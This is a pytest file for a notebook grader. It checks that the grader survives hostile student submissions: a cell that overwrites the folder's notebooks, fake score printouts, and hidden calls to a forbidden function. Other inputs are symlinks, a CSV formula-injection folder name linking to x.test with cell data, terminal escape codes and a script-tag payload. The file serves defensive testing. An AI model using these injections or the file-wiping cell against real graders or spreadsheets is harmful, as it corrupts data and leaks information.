"""The grader: full marks for the solution, zero for the untouched exercise, and a score (never
a crash, a hang or a changed file) for broken, slow and hostile notebooks.

Tests marked ``grading_logic`` check how a notebook is scored, which does not depend on where the
repository, the venv or the temporary files are: the grader's second layout
(scripts/test_grader_layout.sh) runs the others, which start jails, kernels and the command line
from there; `make test` and both version sets run them all."""

import csv
import hashlib
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest
from conftest import INTRO_BEYOND, INTRO_BEYOND_SUM, INTRO_FULL

from bertbook import grade, sandbox
from bertbook.grade import grade_notebook
from bertbook.maint import ROOT, notebooks

SOLUTION = ROOT / "solutions" / "00_intro.ipynb"
FAST = dict(cell_timeout=8, call_timeout=5, seed=1)


def _variant(tmp_path: Path, name: str, edit) -> Path:
    """A copy of the warm-up solution with ``edit(cells)`` applied."""
    nb = nbformat.read(str(SOLUTION), as_version=4)
    edit(nb.cells)
    for cell in nb.cells:  # the course's notebooks are nbformat 4.4: no cell ids
        cell.pop("id", None)
    path = tmp_path / f"{name}.ipynb"
    nbformat.write(nb, str(path))
    return path


def _code_index(cells, startswith: str) -> int:
    return next(
        i for i, c in enumerate(cells) if c.cell_type == "code" and c.source.startswith(startswith)
    )


def _points(report) -> dict:
    return {r.question: r.points for r in report.results}


@pytest.mark.parametrize("solution", notebooks("solutions"), ids=lambda p: p.name)
def test_every_solution_scores_full_marks(solution):
    report = grade_notebook(solution, seed=0)
    assert report.points == report.max_points > 0, report.as_dict()


@pytest.mark.parametrize("exercise", notebooks("exercises"), ids=lambda p: p.name)
def test_every_untouched_exercise_scores_zero(exercise):
    report = grade_notebook(exercise, seed=0)
    assert report.max_points > 0
    assert report.points == 0, report.as_dict()
    assert all(r.note == "not implemented yet" for r in report.results)


@pytest.mark.grading_logic
def test_a_wrong_answer_gets_partial_credit_with_reasons(tmp_path):
    def naive_softmax(cells):  # right on small inputs, NaN on large ones
        i = _code_index(cells, "def softmax")
        cells[
            i
        ].source = "def softmax(x):\n    e = x.exp()\n    return e / e.sum(dim=-1, keepdim=True)\n"

    report = grade_notebook(_variant(tmp_path, "naive", naive_softmax), **FAST)
    q1 = report.results[0]
    assert 0 < q1.points < q1.max_points
    assert any("NaN" in why or "differ" in why for _, why in q1.failed)
    assert _points(report)["q3"] == 3


@pytest.mark.grading_logic
def test_error_cell_costs_only_what_depends_on_it(tmp_path):
    def break_q3(cells):
        i = _code_index(cells, "def cosine_similarity")
        cells[i].source = "1 / 0\n" + cells[i].source

    report = grade_notebook(_variant(tmp_path, "raises", break_q3), **FAST)
    assert _points(report) == {"q1": 3, "q2": 2, "q3": 0, **INTRO_BEYOND}
    assert any(c.status == "error" and "ZeroDivisionError" in c.error for c in report.cells)


def test_infinite_loop_is_interrupted(tmp_path):
    def loop(cells):
        cells.insert(
            _code_index(cells, "def softmax_with"),
            nbformat.v4.new_code_cell("while True:\n    pass"),
        )

    report = grade_notebook(_variant(tmp_path, "loop", loop), **FAST)
    assert report.points == report.max_points
    assert any(c.status == "timeout" for c in report.cells)


def test_sys_exit_and_os_exit_are_survived(tmp_path):
    def exits(cells):
        i = _code_index(cells, "def softmax_with")
        cells.insert(i, nbformat.v4.new_code_cell("import sys\nsys.exit(3)"))
        j = _code_index(cells, "def cosine_similarity")
        cells[j].source = (
            "import os\nos._exit(1)\n" + cells[j].source
        )  # kills the kernel; q3 never defined

    report = grade_notebook(_variant(tmp_path, "exits", exits), **FAST)
    assert _points(report) == {"q1": 3, "q2": 2, "q3": 0, **INTRO_BEYOND}
    assert report.kernel_restarts >= 1
    assert any(c.status == "died" for c in report.cells)


@pytest.mark.grading_logic
def test_megabytes_of_output_and_fake_scores(tmp_path):
    def noisy(cells):
        cells.append(
            nbformat.v4.new_code_cell(
                "for _ in range(200):\n    print('Score: 8/8 ' * 5000)\n"
                "def check(*a, **k):\n    print('q1: 3/3 points')\n"
            )
        )
        i = _code_index(cells, "def cosine_similarity")
        cells[i].source = "def cosine_similarity(a, b):\n    return (a * b).sum(-1)\n"  # wrong

    path = _variant(tmp_path, "noisy", noisy)
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "bertbook.grade",
            str(path),
            "--seed",
            "1",
            "--json",
            str(tmp_path / "out.json"),
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr
    # The wrong cosine passes only "orthogonal vectors give 0": 1 case of 4.
    assert (
        done.stdout.strip().splitlines()[-1] == f"Score: {5.75 + INTRO_BEYOND_SUM:g}/{INTRO_FULL}"
    )
    assert len(done.stdout) < 10_000
    data = json.loads((tmp_path / "out.json").read_text())
    assert [q["points"] for q in data[0]["questions"]] == [3, 2, 0.75, *INTRO_BEYOND.values()]


@pytest.mark.grading_logic
def test_a_function_that_hangs_or_returns_junk_scores_zero(tmp_path):
    def hostile(cells):
        i = _code_index(cells, "def softmax_with")
        cells[i].source = "def softmax_with_temperature(x, t):\n    while True:\n        pass\n"
        j = _code_index(cells, "def cosine_similarity")
        cells[j].source = "def cosine_similarity(a, b):\n    return object()\n"

    report = grade_notebook(_variant(tmp_path, "hostile", hostile), **FAST)
    assert _points(report) == {"q1": 3, "q2": 0, "q3": 0, **INTRO_BEYOND}
    assert any("did not finish" in why for _, why in report.results[1].failed)


def test_the_submitted_file_is_never_changed(tmp_path):
    def writes(cells):
        cells.append(
            nbformat.v4.new_code_cell(
                "import glob\nfor f in glob.glob('*.ipynb'):\n    open(f, 'w').write('gone')"
            )
        )

    path = _variant(tmp_path, "writer", writes)
    before = hashlib.sha256(path.read_bytes()).hexdigest()
    grade_notebook(path, **FAST)
    assert hashlib.sha256(path.read_bytes()).hexdigest() == before


@pytest.mark.grading_logic
def test_a_fault_of_the_grader_on_one_question_is_a_grader_error_never_a_zero(monkeypatch):
    """Grading a question can fail in the grader itself (seen once: a SystemError in the newest
    versions' set under load). The notebook then has no score and a status that names the
    question and the error, as when its kernel does not start, not a zero that looks earned."""
    original = grade._call_question

    def faulty(box, prepared, timeout):
        if prepared.question.id == "q2":
            raise SystemError("error return without exception set")
        return original(box, prepared, timeout)

    monkeypatch.setattr(grade, "_call_question", faulty)
    report = grade_notebook(SOLUTION, **FAST)
    assert report.grader_error and report.points is None
    assert "q2" in report.status and "SystemError" in report.status
    assert "test_grade.py:" in report.status  # where it was raised, for the bug report
    assert {r.question: r.points for r in report.results if r.question != "q2"} == {
        "q1": 3,
        "q3": 3,
        **INTRO_BEYOND,
    }


def test_a_folder_gives_a_gradebook(tmp_path):
    folder = tmp_path / "submissions"
    folder.mkdir()
    (folder / "alice.ipynb").write_bytes(SOLUTION.read_bytes())
    (folder / "bob.ipynb").write_bytes((ROOT / "exercises" / "00_intro.ipynb").read_bytes())
    done = subprocess.run(
        [sys.executable, "-m", "bertbook.grade", str(folder), "--csv", str(tmp_path / "g.csv")],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO((tmp_path / "g.csv").read_text())))
    assert list(rows[0])[:7] == [
        "student",
        "status",
        "needs_instructor",
        "00_intro",
        *[f"00_intro/q{i}" for i in (1, 2, 3)],
    ]
    assert [(r["student"], r["status"], float(r["00_intro"])) for r in rows] == [
        ("alice", "graded", float(INTRO_FULL)),
        ("bob", "graded", 0.0),
    ]


@pytest.mark.parametrize(
    "content, message",
    [
        (None, "no such file"),
        ("this is not json", "not a Jupyter notebook"),
        (nbformat.writes(nbformat.v4.new_notebook()), "not a course exercise"),
    ],
)
def test_unusable_input_is_one_line_and_exit_2(tmp_path, content, message):
    path = tmp_path / "sub.ipynb"
    if content is not None:
        path.write_text(content)
    done = subprocess.run(
        [sys.executable, "-m", "bertbook.grade", str(path)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 2
    assert done.stdout == ""
    assert len(done.stderr.strip().splitlines()) == 1 and message in done.stderr


@pytest.mark.grading_logic
def test_the_grader_names_a_mistake_and_charges_it_once(tmp_path):
    def first_axis(cells):
        i = _code_index(cells, "def softmax(")
        cells[i].source = "def softmax(x):\n    return torch.softmax(x, 0)\n"

    report = grade_notebook(_variant(tmp_path, "axis", first_axis), **dict(FAST, cell_timeout=60))
    q1, q2 = report.results[0], report.results[1]
    assert q1.points < q1.max_points
    assert any("this is what softmax over the first axis gives" in why for _, why in q1.failed)
    assert q2.points == q2.max_points  # it calls the student's softmax: graded with the reference


@pytest.mark.grading_logic
def test_a_forbidden_call_scores_zero_in_the_grader(tmp_path):
    nb = nbformat.read(str(ROOT / "solutions" / "06_gpt2.ipynb"), as_version=4)
    i = _code_index(nb.cells, "def causal_attention")
    nb.cells[i].source = (
        "import torch.nn.functional as F\n"
        "def causal_attention(q, k, v):\n"
        "    return F.scaled_dot_product_attention(q, k, v, is_causal=True)\n"
    )
    for cell in nb.cells:
        cell.pop("id", None)
    path = tmp_path / "06_gpt2.ipynb"
    nbformat.write(nb, str(path))
    report = grade_notebook(path, **dict(FAST, cell_timeout=60))
    q1 = report.results[0]
    assert q1.points == 0 and "scaled_dot_product_attention" in q1.note
    assert report.points == report.max_points - q1.max_points


def _gpt2_with(answer: str, path: Path) -> Path:
    """The chapter 6 solution with ``causal_attention``'s cell replaced by ``answer``."""
    nb = nbformat.read(str(ROOT / "solutions" / "06_gpt2.ipynb"), as_version=4)
    nb.cells[_code_index(nb.cells, "def causal_attention")].source = answer
    for cell in nb.cells:
        cell.pop("id", None)
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, str(path))
    return path


HIDDEN_FORBIDDEN = {
    # The forbidden call inside a helper defined outside the answer (a cell of its own).
    "helper": (
        "import torch.nn.functional as F\n"
        "def _attend(q, k, v):\n"
        "    return F.scaled_dot_product_attention(q, k, v, is_causal=True)\n"
        "def causal_attention(q, k, v):\n"
        "    return _attend(q, k, v)\n"
    ),
    # An alias taken before: the answer's source never names the function.
    "alias": (
        "from torch.nn.functional import scaled_dot_product_attention as fast\n"
        "def causal_attention(q, k, v):\n"
        "    return fast(q, k, v, is_causal=True)\n"
    ),
    # getattr with a name built at run time.
    "getattr": (
        "import torch.nn.functional as F\n"
        "def causal_attention(q, k, v):\n"
        "    return getattr(F, 'scaled_dot_' + 'product_attention')(q, k, v, is_causal=True)\n"
    ),
}


@pytest.mark.grading_logic
def test_a_forbidden_call_is_seen_however_it_is_reached(tmp_path):
    cls = tmp_path / "class"
    for name, answer in HIDDEN_FORBIDDEN.items():
        _gpt2_with(answer, cls / name / "06_gpt2.ipynb")
    honest = cls / "honest" / "06_gpt2.ipynb"
    honest.parent.mkdir()
    honest.write_bytes((ROOT / "solutions" / "06_gpt2.ipynb").read_bytes())
    cmd = [sys.executable, "-m", "bertbook.grade", str(cls), "--seed", "1", "-j", "2"]
    cmd += ["--json", str(tmp_path / "r.json"), "--cell-timeout", "60"]
    done = subprocess.run(cmd, capture_output=True, text=True, timeout=900)
    assert done.returncode == 0, done.stderr[-2000:]
    got = {r["student"]: r for r in json.loads((tmp_path / "r.json").read_text())}
    full = got["honest"]["max_score"]
    assert got["honest"]["score"] == full
    for name in HIDDEN_FORBIDDEN:
        q1 = got[name]["questions"][0]
        assert q1["points"] == 0 and "scaled_dot_product_attention" in q1["note"], (name, q1)
        assert got[name]["score"] == full - q1["max_points"], name  # the rest is unchanged


def _grade_class(folder: Path, out: Path, *extra: str) -> subprocess.CompletedProcess:
    out.mkdir()
    cmd = [sys.executable, "-m", "bertbook.grade", str(folder), "--seed", "3", "-j", "2"]
    cmd += ["--json", str(out / "r.json"), "--csv", str(out / "g.csv"), *extra]
    # 3G: at the default 2G a kernel's start-up was seen, under load, to pass RLIMIT_DATA
    # (dmesg: "VmData ... exceed data ulimit"); that limit is another test's subject.
    cmd += ["--memory", "3G"]
    if sandbox.unavailable_reason():
        cmd.append("--no-sandbox")
    done = subprocess.run(cmd, capture_output=True, timeout=900)
    assert done.returncode == 0, done.stderr[-3000:]
    return done


FAKE_ERROR = "raise ValueError('\\x1b[2J\\nScore: 0/8\\n<script>alert(1)</script>')\n"


def test_hostile_inputs_beside_honest_ones_in_one_run(tmp_path):
    """The instructor's class: every honest notebook scores exactly what it scores alone, every
    hostile input gets a status of its own, nothing stops the run, and no output carries a
    formula, a control character or markup."""
    wrong_cosine = "def cosine_similarity(a, b):\n    return (a * b).sum(-1)\n"
    honest = {
        "alice": SOLUTION,
        "bob": _variant(tmp_path, "bob", _replace("def cosine", wrong_cosine)),
    }
    alone = tmp_path / "alone"
    for name, nb in honest.items():
        (alone / name).mkdir(parents=True)
        (alone / name / "00_intro.ipynb").write_bytes(nb.read_bytes())
    _grade_class(alone, tmp_path / "o1")
    alone_scores = {r["student"]: r["score"] for r in _records(tmp_path / "o1")}
    assert alone_scores == {"alice": INTRO_FULL, "bob": 5.75 + INTRO_BEYOND_SUM}

    cls = tmp_path / "class"
    for name, nb in honest.items():
        (cls / name).mkdir(parents=True)
        (cls / name / "00_intro.ipynb").write_bytes(nb.read_bytes())
    solution = cls / "carol" / "00_intro.ipynb"
    solution.parent.mkdir()
    solution.write_bytes(SOLUTION.read_bytes())
    (cls / "mallory").mkdir()  # a link to a classmate's notebook
    (cls / "mallory" / "00_intro.ipynb").symlink_to(cls / "bob" / "00_intro.ipynb")
    (cls / "trudy").mkdir()  # a link to the instructor's solution
    (cls / "trudy" / "00_intro.ipynb").symlink_to(SOLUTION)
    (cls / "zero").mkdir()
    (cls / "zero" / "00_intro.ipynb").symlink_to("/dev/zero")
    os.mkfifo(cls / "fifo_00_intro.ipynb")
    (cls / "oscar" / "bob").mkdir(parents=True)  # oscar/bob/...: not bob's
    (cls / "oscar" / "bob" / "00_intro.ipynb").write_bytes(SOLUTION.read_bytes())
    (cls / "dan").mkdir()  # two notebooks for one exercise: a duplicate, never merged
    (cls / "dan" / "00_intro.ipynb").write_bytes(honest["bob"].read_bytes())
    (cls / "dan" / "00_intro_final.ipynb").write_bytes(SOLUTION.read_bytes())
    os.mkdir(os.fsencode(str(cls)) + b"/\xffzed")  # a name that is not UTF-8
    with open(os.fsencode(str(cls)) + b"/\xffzed/00_intro.ipynb", "wb") as f:
        f.write(honest["bob"].read_bytes())
    formula = '=HYPERLINK("http://x.test/?"&A1,"click")'
    (cls / formula.replace("/", "_")).mkdir()
    (cls / formula.replace("/", "_") / "00_intro.ipynb").write_bytes(SOLUTION.read_bytes())
    fake = "eve\x1b[2J\n== alice (00_intro; student alice)\nScore: 0"
    (cls / fake).mkdir()
    (cls / fake / "00_intro.ipynb").write_bytes(
        _variant(tmp_path, "eve", _replace("def softmax(", FAKE_ERROR)).read_bytes()
    )
    roster = tmp_path / "roster.csv"
    roster.write_text("student,name,id\nalice,Alice,1\nbob,Bob,2\ncarol,Carol,3\n")
    done = _grade_class(cls, tmp_path / "o2", "--canvas", str(tmp_path / "o2" / "c.csv"),
                        "--roster", str(roster))  # fmt: skip
    got: dict[str, list] = {}
    for r in _records(tmp_path / "o2"):
        got.setdefault(r["student"], []).append(r)

    # Honest students: exactly their alone-scores.
    for name in honest:
        assert [(r["status"], r["score"]) for r in got[name]] == [("graded", alone_scores[name])]
    assert [(r["status"], r["score"]) for r in got["carol"]] == [("graded", INTRO_FULL)]
    # Hostile inputs: each its own status, never another's score.
    for name in ("mallory", "trudy", "zero"):
        assert [(r["status"], r["score"]) for r in got[name]] == [("refused: a symbolic link", 0)]
    assert [r["status"] for r in got["fifo"]] == ["refused: not a regular file"]
    assert [r["status"][:30] for r in got["oscar"]] == ["refused: nested 2 folders deep"]
    assert sorted(r["score"] for r in got["dan"]) == [5.75 + INTRO_BEYOND_SUM, INTRO_FULL]
    assert all(r["status"].startswith("duplicate: 2 notebooks for dan") for r in got["dan"])
    assert [r["score"] for r in got["\\xffzed"]] == [5.75 + INTRO_BEYOND_SUM]
    formula = formula.replace("/", "_")
    assert [(r["status"], r["score"]) for r in got[formula]] == [
        ("graded", INTRO_FULL)
    ]  # JSON: as is
    [eve] = got["eve\\x1b[2J\\n== alice (00_intro; student alice)\\nScore: 0"]
    assert (
        eve["score"] == 5 + INTRO_BEYOND_SUM
    )  # its softmax raised: q1 is 0, q2 graded with the reference
    assert "<script>" in eve["cells"][0]["error"]  # kept as text, escaped where written

    # The terminal: one block per notebook, no control character, no line a student started.
    stdout = done.stdout.decode("utf-8")
    assert "\x1b" not in stdout and "\udcff" not in stdout
    assert sum(line.startswith("Score: ") for line in stdout.splitlines()) == 13
    assert [line for line in stdout.splitlines() if line.endswith("student alice)")] == [
        f"== {cls / 'alice' / '00_intro.ipynb'} (00_intro; student alice)"
    ]
    # The CSV and Canvas files: every cell text, no formula; rows that need the instructor named.
    rows = list(csv.DictReader(io.StringIO((tmp_path / "o2" / "g.csv").read_text())))
    flagged = {r["student"] for r in rows if r["needs_instructor"] == "yes"}
    assert flagged == {r["student"] for r in rows} - {"alice", "bob", "carol"}
    assert next(r for r in rows if r["student"] == "dan")["00_intro"] == ""  # never merged
    assert next(r for r in rows if r["student"] == "'" + formula)["00_intro"] == str(INTRO_FULL)
    for name in ("g.csv", "c.csv"):
        text = (tmp_path / "o2" / name).read_text(encoding="utf-8")
        assert "\x1b" not in text
        for row in list(csv.reader(io.StringIO(text)))[1:]:
            assert not any(c.lstrip(" ").startswith(("=", "+", "-", "@")) for c in row), row
    canvas = list(csv.reader(io.StringIO((tmp_path / "o2" / "c.csv").read_text())))
    students = [row[0] for row in canvas[2:]]
    assert len(students) == len(rows) and "Alice" in students  # every row, the roster's names
    # JSON: no markup, every notebook.
    raw = (tmp_path / "o2" / "r.json").read_text()
    assert "<script>" not in raw and "\x1b" not in raw
    assert "needs the instructor" in stdout and "not on the roster" in stdout


def _replace(start: str, source: str):
    """An edit for ``_variant``: the code cell starting with ``start`` becomes ``source``."""

    def edit(cells):
        cells[_code_index(cells, start)].source = source

    return edit


def _records(out: Path) -> list[dict]:
    return json.loads((out / "r.json").read_text())
